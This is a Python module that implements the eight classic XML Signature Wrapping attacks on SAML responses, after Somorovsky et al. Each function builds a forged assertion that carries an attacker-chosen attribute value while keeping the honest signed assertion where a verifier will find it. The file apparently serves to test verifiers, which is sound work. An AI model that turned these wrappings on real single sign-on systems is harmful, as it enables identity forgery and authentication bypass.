"""The eight classic signature wrappings (Somorovsky et al., "On Breaking SAML", 2012), around one honest answer.

Each keeps the honest, signed assertion somewhere that a verifier finds by its identifier, and puts a forged one where a
naive reader looks.
"""

import copy
from collections.abc import Callable

from lxml import etree

from identity.federation.forge import NS, sign

Wrap = Callable[[etree._Element, str], etree._Element]
_S = f"{{{NS['saml']}}}"
_D = f"{{{NS['ds']}}}"


def _assertion(root: etree._Element) -> etree._Element:
    found = root.find("saml:Assertion", NS)
    assert found is not None
    return found


def _forged(honest: etree._Element, value: str, identifier: str = "_forged") -> etree._Element:
    forged = copy.deepcopy(honest)
    forged.set("ID", identifier)
    for signature in forged.findall("ds:Signature", NS):
        forged.remove(signature)
    forged.find(".//saml:AttributeValue", NS).text = value  # type: ignore[union-attr]
    return forged


def _object(signature: etree._Element) -> etree._Element:
    return etree.SubElement(signature, f"{_D}Object")


def xsw1(root: etree._Element, value: str) -> etree._Element:
    """The response is signed; a forged response carries the honest one inside its signature."""
    sign(root)
    forged = copy.deepcopy(root)
    signature = forged.find("ds:Signature", NS)
    forged.set("ID", "_forgedresponse")
    honest = copy.deepcopy(root)
    honest.remove(honest.find("ds:Signature", NS))
    _object(signature).append(honest)
    inner = _assertion(forged)
    forged.replace(inner, _forged(inner, value))
    return forged


def xsw2(root: etree._Element, value: str) -> etree._Element:
    """The same, the honest response beside a detached signature."""
    sign(root)
    forged = copy.deepcopy(root)
    forged.set("ID", "_forgedresponse")
    honest = copy.deepcopy(root)
    honest.remove(honest.find("ds:Signature", NS))
    forged.insert(1, honest)
    inner = forged.findall("saml:Assertion", NS)[-1]
    forged.replace(inner, _forged(inner, value))
    return forged


def xsw3(root: etree._Element, value: str) -> etree._Element:
    """A forged assertion before the honest one."""
    honest = _assertion(root)
    honest.addprevious(_forged(honest, value))
    return root


def xsw4(root: etree._Element, value: str) -> etree._Element:
    """The honest assertion inside the forged one."""
    honest = _assertion(root)
    forged = _forged(honest, value)
    root.replace(honest, forged)
    forged.append(honest)
    return root


def xsw5(root: etree._Element, value: str) -> etree._Element:
    """The forged assertion bears the signature, the honest one follows without it."""
    honest = _assertion(root)
    forged = _forged(honest, value)
    signature = honest.find("ds:Signature", NS)
    honest.remove(signature)
    forged.insert(1, signature)
    honest.addprevious(forged)
    return root


def xsw6(root: etree._Element, value: str) -> etree._Element:
    """The honest assertion inside the signature that the forged one bears."""
    honest = _assertion(root)
    forged = _forged(honest, value)
    signature = honest.find("ds:Signature", NS)
    honest.remove(signature)
    root.replace(honest, forged)
    forged.insert(1, signature)
    signature.append(honest)
    return root


def xsw7(root: etree._Element, value: str) -> etree._Element:
    """The forged assertion in an extension, under the honest one's own identifier."""
    honest = _assertion(root)
    extensions = etree.Element(f"{{{NS['samlp']}}}Extensions")
    extensions.append(_forged(honest, value, honest.get("ID")))
    honest.addprevious(extensions)
    return root


def xsw8(root: etree._Element, value: str) -> etree._Element:
    """The honest assertion in an object of the forged one's signature."""
    honest = _assertion(root)
    forged = _forged(honest, value, honest.get("ID"))
    signature = honest.find("ds:Signature", NS)
    honest.remove(signature)
    root.replace(honest, forged)
    forged.insert(1, signature)
    _object(signature).append(honest)
    return root


ALL: tuple[Wrap, ...] = (xsw1, xsw2, xsw3, xsw4, xsw5, xsw6, xsw7, xsw8)
